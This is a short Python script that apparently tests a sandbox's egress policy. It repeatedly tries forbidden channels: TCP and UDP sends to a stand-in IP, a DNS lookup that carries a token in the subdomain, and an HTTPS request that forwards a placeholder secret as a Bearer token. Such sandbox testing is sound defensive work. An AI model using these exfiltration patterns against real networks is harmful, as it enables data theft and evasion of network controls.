"""Tries again and again to get out of a sandbox in ways that its policy forbids. Argument: the token of its thread."""

import os
import socket
import ssl
import sys
import threading
import time

TOKEN = sys.argv[1]
FORBIDDEN = "198.51.100.91"
HOME = os.path.dirname(os.path.abspath(__file__))


def placeholder():
    """What stands for the secret here, or what another thread's sandbox told this one."""
    try:
        with open(os.path.join(HOME, "placeholder")) as file:
            return file.read().strip()
    except OSError:
        return ""


def send(host, port):
    with socket.create_connection((host, port), 0.5) as made:
        made.settimeout(0.5)
        made.sendall(f"{TOKEN}\n".encode())
        made.recv(64)


def send_datagram(port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.sendto(TOKEN.encode(), (FORBIDDEN, port))


def use_secret():
    context = ssl.create_default_context()
    with socket.create_connection(("api.site.test", 443), 2) as plain:
        plain.settimeout(2)
        with context.wrap_socket(plain, server_hostname="api.site.test") as made:
            head = f"GET /{TOKEN} HTTP/1.1\r\nHost: api.site.test\r\nAuthorization: Bearer {placeholder()}\r\n"
            made.sendall(f"{head}Connection: close\r\n\r\n".encode())
            made.recv(4096)


def again(attempts, pause):
    while True:
        for attempt in attempts:
            try:
                attempt()
            except OSError:
                pass
            time.sleep(pause)


def ask():
    socket.getaddrinfo(f"{TOKEN}.forbidden.site.test", 443)


connections = [lambda port=port: send(FORBIDDEN, port) for port in (53, 80, 443, 8181)]
datagrams = [lambda port=port: send_datagram(port) for port in (53, 443)]
threading.Thread(target=again, args=([ask, use_secret], 0.3), daemon=True).start()
again([*connections, *datagrams, lambda: send("sometimes.site.test", 8181)], 0.1)
